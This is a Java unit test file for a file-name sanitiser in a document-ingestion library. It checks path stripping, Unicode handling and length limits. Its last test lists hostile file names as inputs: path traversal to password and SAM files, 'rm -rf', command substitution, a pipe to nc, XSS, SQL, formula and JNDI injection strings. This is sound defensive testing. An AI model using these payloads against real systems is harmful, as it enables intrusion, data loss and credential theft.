package dev.docent.ingestion.document;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class FilenameTest {

    @ParameterizedTest
    @CsvSource(textBlock = """
                    report.pdf,                    report.pdf
                    /etc/passwd,                   passwd
                    ..\\..\\boot.ini,              boot.ini
                    C:\\Users\\me\\My report.docx, My report.docx
                    a/b\\c.txt,                    c.txt
                    Übung – 日本語.md,              Übung – 日本語.md
                    .profile,                      .profile
                    """)
    void keepsTheNameWithoutItsPath(String given, String shown) {
        assertThat(Filename.of(given).value()).isEqualTo(shown);
    }

    @Test
    void dropsWhatHidesOrReordersCharacters() {
        assertThat(Filename.of("in\u202Evoice\u202C\u200Bfdp.exe\r\n\0").value())
                .isEqualTo("invoicefdp.exe");
        assertThat(Filename.of("half\uD83D.txt").value()).isEqualTo("half.txt");
    }

    @Test
    void keepsTheJoinersOfScriptsAndEmoji() {
        assertThat(Filename.of("می\u200Cخواهم 👩\u200D🔬.txt").value()).isEqualTo("می\u200Cخواهم 👩\u200D🔬.txt");
    }

    @Test
    void composesAccents() {
        assertThat(Filename.of("re\u0301sume\u0301.pdf").value()).isEqualTo("résumé.pdf");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   ", ".", "..", "folder/", "\u202E", "\t\n"})
    void namesWhatHasNoName(String given) {
        assertThat(Filename.of(given).value()).isEqualTo("document");
    }

    @Test
    void shortensALongNameButNotItsExtension() {
        var shown = Filename.of("n".repeat(1000) + ".pdf").value();

        assertThat(shown).hasSize(255).endsWith("nn.pdf");
    }

    @Test
    void neverCutsACharacterInHalf() {
        var shown = Filename.of("x" + "😀".repeat(300)).value();

        assertThat(shown).hasSizeLessThanOrEqualTo(255).endsWith("😀");
    }

    /** Names that have done harm somewhere: to shells, paths, terminals, browsers, spreadsheets, other file systems. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../etc/passwd",
                "..\\..\\windows\\system32\\config\\sam",
                "....//....//etc/shadow",
                "..%2f..%2fetc%2fpasswd",
                "..%c0%af..%c0%afboot.ini",
                "%2e%2e/%2e%2e/secret",
                "/dev/null",
                "//server/share/file.txt",
                "\\\\?\\C:\\secret.txt",
                "file:///etc/passwd",
                "http://169.254.169.254/latest/meta-data",
                "CON",
                "nul.txt",
                "aux.pdf",
                "LPT1.txt",
                "file.txt::$DATA",
                "file.txt:stream",
                "report.pdf ",
                "report.pdf.",
                "report.pdf\0.exe",
                "line\nbreak.txt",
                "head\r\nSet-Cookie: a=b.txt",
                "tab\there.txt",
                "bell\u0007.txt",
                "\u001b[2Jclear.txt",
                "\u202Etxt.exe",
                "\u2066hidden\u2069.txt",
                "zero\u200Bwidth.txt",
                "\uFEFFbom.txt",
                "tag\uDB40\uDC41.txt",
                "line\u2028separator.txt",
                "\"; rm -rf ~; \".txt",
                "$(reboot).txt",
                "`id`.txt",
                "| nc host 1 .txt",
                "<script>alert(1)</script>.html",
                "<img src=x onerror=alert(1)>.png",
                "'; DROP TABLE documents; --.txt",
                "=cmd|' /C calc'!A0.csv",
                "${jndi:ldap://host/a}.txt",
                "{{7*7}}.txt",
                "%n%n%n%s.txt",
                "\uD83D\uDE00\uD83D.txt",
                "Z\u0351\u0357\u0343a\u034Al\u0350go.txt",
                "~/.ssh/authorized_keys",
                "-rf"
            })
    void takesTheHarmOutOfNames(String given) {
        var shown = Filename.of(given).value();

        assertThat(shown)
                .isNotBlank()
                .isNotIn(".", "..")
                .hasSizeLessThanOrEqualTo(255)
                .doesNotContain("/", "\\")
                .isEqualTo(shown.strip())
                .matches(name -> name.codePoints().noneMatch(FilenameTest::isUnseen), "has nothing unseen");
        assertThat(Filename.of(shown).value()).isEqualTo(shown);
    }

    private static boolean isUnseen(int character) {
        return switch (Character.getType(character)) {
            case Character.CONTROL,
                    Character.FORMAT,
                    Character.SURROGATE,
                    Character.LINE_SEPARATOR,
                    Character.PARAGRAPH_SEPARATOR -> true;
            default -> false;
        };
    }
}
